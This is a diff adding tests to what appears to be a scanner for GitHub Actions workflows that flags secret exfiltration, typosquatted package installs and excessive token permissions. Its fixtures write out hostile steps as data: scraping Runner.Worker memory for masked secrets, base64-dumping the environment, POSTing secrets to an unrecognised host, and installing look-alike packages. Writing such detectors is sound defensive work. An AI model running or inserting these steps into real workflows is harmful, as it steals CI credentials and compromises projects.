@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { lowerMovedUnpinnedRefs, lowerOwnOrganization } from '../../../src/ecosystems/github-actions/action-ref-rules.js';
 import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
+import { dropOwnHostSends } from '../../../src/ecosystems/github-actions/secret-rules.js';
 import { refVersionMismatchFindings } from '../../../src/ecosystems/github-actions/ref-version-rules.js';
 import { isRoutineWorkflowChange } from '../../../src/ecosystems/github-actions/routine-change.js';
 import { makeSnapshot } from '../../support/snapshot-factory.js';
@@ -330,6 +331,60 @@ describe('gha-secrets-exfiltration', () => {
     ]);
   });
 
+  it("reports a step that reads the runner's memory (/proc/<pid>/mem, a core dump of Runner.Worker, its isSecret entries) or prints the whole environment encoded, critical", () => {
+    const dumped = `on: push\n${job(`      - run: |
+          PID=$(pgrep -f Runner.Worker)
+          sudo dd if=/proc/$PID/mem bs=1M 2>/dev/null | strings > /tmp/m
+      - run: sudo gcore -o /tmp/core $(pgrep Runner.Worker)
+      - run: sudo python3 scan.py | tr -d '\\0' | grep -aoE 'isSecret":true' | sort -u
+      - run: sudo cat /proc/1234/mem | strings | grep ghs_
+      - run: env | base64 -w0 | base64 -w0
+      - run: printenv | xxd -p
+`)}`;
+    expect(only(dumped, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:8', 'critical:9', 'critical:10', 'critical:11', 'critical:12', 'critical:13']);
+  });
+
+  it('is quiet on a crash dump of a test process, memory statistics, a process listing, and an environment printed plainly or filtered', () => {
+    const normal = `on: push\n${job(`      - run: |
+          ./server & sleep 5
+          gcore -o crash/server $(pgrep server) || true
+      - run: cat /proc/meminfo && free -m && cat /proc/self/status
+      - run: ps aux | grep -v Runner.Worker | head
+      - run: printenv | sort
+      - run: env | grep -i node
+      - run: echo "$GREETING" | base64
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
+  it('reports a secret whose name names no service (API_TOKEN, DEPLOY_KEY) sent in a body to a host no known service owns, high; the repository\'s own host drops it', () => {
+    const sent = `on: push\n${job(`      - run: curl -s -X POST https://metrics.buildstat-hub.io/ingest -d "key=\${{ secrets.API_TOKEN }}"
+      - run: curl -s --data "$K" https://metrics.buildstat-hub.io/ingest
+        env:
+          K: \${{ secrets.DEPLOY_KEY }}
+      - run: curl -fsS -X POST -d "token=\${{ secrets.ACCESS_TOKEN }}" https://hooks.tint.acme.dev/warm
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'high', 6],
+      ['gha-secrets-exfiltration', 'high', 7],
+      ['gha-secrets-exfiltration', 'high', 10],
+    ]);
+    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
+    expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 7]);
+    expect(dropOwnHostSends(findings, 'other', 'thing').map((f) => f.line)).toEqual([6, 7, 10]);
+  });
+
+  it('is quiet on such a secret in a URL (a deploy hook), to a known service, to a login or token endpoint, without a body, or a secret whose name says what it is for', () => {
+    const normal = `on: push\n${job(`      - run: curl -fsS -X POST "https://deploy.buildstat-hub.io/hooks/release?token=\${{ secrets.API_TOKEN }}"
+      - run: curl -s -d "token=\${{ secrets.API_TOKEN }}" https://api.github.com/repos/o/r/dispatches
+      - run: curl -s -d "grant_type=password&password=\${{ secrets.PASSWORD }}" https://id.buildstat-hub.io/oauth/token
+      - run: curl -s -H "X-Api-Key: \${{ secrets.API_KEY }}" https://metrics.buildstat-hub.io/ingest
+      - run: curl -s -F "token=\${{ secrets.PUSHOVER_TOKEN }}" -F "user=\${{ secrets.PUSHOVER_USER }}" -F "message=released" https://api.pushover.net/1/messages.json
+      - run: curl -s -d "url=\${{ secrets.DEPLOY_URL }}" https://metrics.buildstat-hub.io/ingest
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('is quiet on a secret sent as the credential of its own service, a generic secret, Basic auth built with base64, or a key decoded into a file', () => {
     const normal = `on: push\n${job(`      - run: curl -sf -X POST -H "Authorization: Bearer \${{ secrets.NETLIFY_TOKEN }}" -d @payload.json https://api.netlify.com/api/v1/sites/abc/deploys
       - run: curl -s -F "file=@coverage.xml" "https://codecov.io/upload/v4?token=\${{ secrets.CODECOV_TOKEN }}"
@@ -348,6 +403,29 @@ describe('gha-secrets-exfiltration', () => {
           curl -s -F "file=@dist/app.tgz" https://uploads.acme.dev/v1
 `)}`;
     expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+});
+
+describe('typosquat in a run: script', () => {
+  it('reports a look-alike package a step installs or runs by name (npx, npm i -g, pip install, pipx, uvx), high', () => {
+    const wf = `on: push\n${job(`      - run: npx -y prettierr --check .
+      - run: npm i -g typescrip@5 && tsc -p .
+      - run: python -m pip install -q reqeusts==2.31.0
+      - run: uvx reqeusts
+`)}`;
+    expect(only(wf, 'typosquat')).toEqual([
+      ['typosquat', 'high', 6],
+      ['typosquat', 'high', 7],
+      ['typosquat', 'high', 8],
+    ]);
+  });
+  it('is quiet on the popular names themselves, local paths, requirement files, variables and options', () => {
+    const wf = `on: push\n${job(`      - run: npx -y prettier --check . && npx tsc -p . && npx --package=@changesets/cli changeset version
+      - run: npm ci && npm install ./packages/core && npm i -g npm@10
+      - run: pip install -r requirements.txt -c constraints.txt && pip install -e ".[test]" && pip install "requests>=2" "$EXTRA"
+      - run: pipx run build && uvx ruff check . && uv tool install pre-commit
+`)}`;
+    expect(only(wf, 'typosquat')).toEqual([]);
   });
 });
 
@@ -434,6 +512,23 @@ ${withToken}`;
     expect(only(triage('issues', '          github-token: ${{ github.token }}\n'), 'gha-excessive-permissions')).toEqual([]);
     expect(only(triage('pull-requests', '          note: ${{ github.event.pull_request.number }}\n'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 9]]);
     expect(only(triage('contents', '          token: ${{ secrets.GITHUB_TOKEN }}\n'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 9]]);
+  });
+  it('counts the job token handed to an action in the step env (a labeler that reads GITHUB_TOKEN) as a hand-off; not for a run step or for contents', () => {
+    const labeler = (scope: string, step: string): string => `on:
+  pull_request_target:
+    types: [opened, synchronize]
+jobs:
+  label:
+    permissions:
+      ${scope}: write
+    runs-on: ubuntu-latest
+    steps:
+${step}`;
+    const action = `      - uses: acme/path-labeler@${SHA}\n        env:\n          GITHUB_TOKEN: "\${{ secrets.GITHUB_TOKEN }}"\n`;
+    expect(only(labeler('pull-requests', action), 'gha-excessive-permissions')).toEqual([]);
+    // A run step that is given the token shows no need by that alone, and the hand-off justifies no contents: write.
+    expect(only(labeler('pull-requests', '      - run: ./label.sh\n        env:\n          GITHUB_TOKEN: ${{ github.token }}\n'), 'gha-excessive-permissions').map((f) => f[1])).toEqual(['high']);
+    expect(only(labeler('contents', action), 'gha-excessive-permissions').map((f) => f[1])).toEqual(['high']);
   });
 });
 
